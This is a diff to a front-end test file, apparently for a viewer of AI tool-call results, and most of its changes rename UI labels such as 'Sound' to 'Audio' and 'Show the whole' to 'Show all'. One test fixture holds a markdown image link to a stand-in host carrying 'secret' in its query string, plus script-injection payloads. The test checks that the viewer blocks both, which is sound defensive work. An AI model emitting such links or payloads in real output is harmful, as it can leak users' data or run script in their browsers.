@@ -59,7 +59,7 @@ describe("a result", () => {
     await show(<ResultView call={view({ result: result(blocks, { more_blocks: 2 }) })} />);
     expect(screen.getByText("plain words")).toBeVisible();
     expect(await screen.findByRole("img")).toHaveAttribute("src", expect.stringMatching(/^data:image\//));
-    expect(await screen.findByLabelText("Sound 3 from the server")).toBeVisible();
+    expect(await screen.findByLabelText("Audio 3 from the server")).toBeVisible();
     expect(screen.getByText("Its bytes are not a picture.")).toBeVisible();
     expect(screen.getByText(/2 more blocks/)).toBeVisible();
     expect(screen.getAllByRole("figure")).toHaveLength(6);
@@ -107,8 +107,8 @@ describe("a result", () => {
       "# Hi\n\n![p](https://sink.example/p?d=secret)\n\n<img src=x onerror=alert(1)><script>alert(1)</script>";
     const { container } = await show(<ResultView call={view({ result: result([text(words)]) })} />);
     expect(container.querySelector("img, script, iframe, style")).toBeNull();
-    expect(screen.getByText(/Picture “p”/)).toHaveTextContent(
-      "Picture “p” at https://sink.example/p?d=secret was not loaded",
+    expect(screen.getByText(/Image “p”/)).toHaveTextContent(
+      "Image “p” at https://sink.example/p?d=secret was not loaded",
     );
     expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
   });
@@ -147,7 +147,7 @@ describe("a result", () => {
     const { rerender, unmount } = await show(
       <ResultView call={view({ state: "tool_error", result: result([text("no such file")]) })} />,
     );
-    expect(screen.getByText(/The tool says it failed/)).toBeVisible();
+    expect(screen.getByText(/The tool reported an error/)).toBeVisible();
     expect(screen.getByText("no such file")).toBeVisible();
     expect(screen.queryByRole("alert")).toBeNull();
     void rerender;
@@ -217,7 +217,7 @@ describe("a result", () => {
             bytes,
           }
         : ask(name, args)) as typeof fake.call;
-    await user.click(screen.getByRole("button", { name: "Show the whole, 9.8 MB" }));
+    await user.click(screen.getByRole("button", { name: "Show all, 9.8 MB" }));
     await waitFor(() => expect(screen.getByText("9.8 MB, 163,841 lines")).toBeVisible(), { timeout: 10_000 });
     expect(container.querySelectorAll("*").length).toBeLessThan(400);
   });
@@ -231,7 +231,7 @@ describe("a result", () => {
       name === "read_payload"
         ? { text: "only 1", next: null, bytes: 6 }
         : ask(name, args)) as typeof fake.call;
-    await user.click(screen.getByRole("button", { name: /^Show the whole/ }));
+    await user.click(screen.getByRole("button", { name: /^Show all/ }));
     expect(await screen.findByText(/, 1 line$/)).toBeVisible();
   });
 });
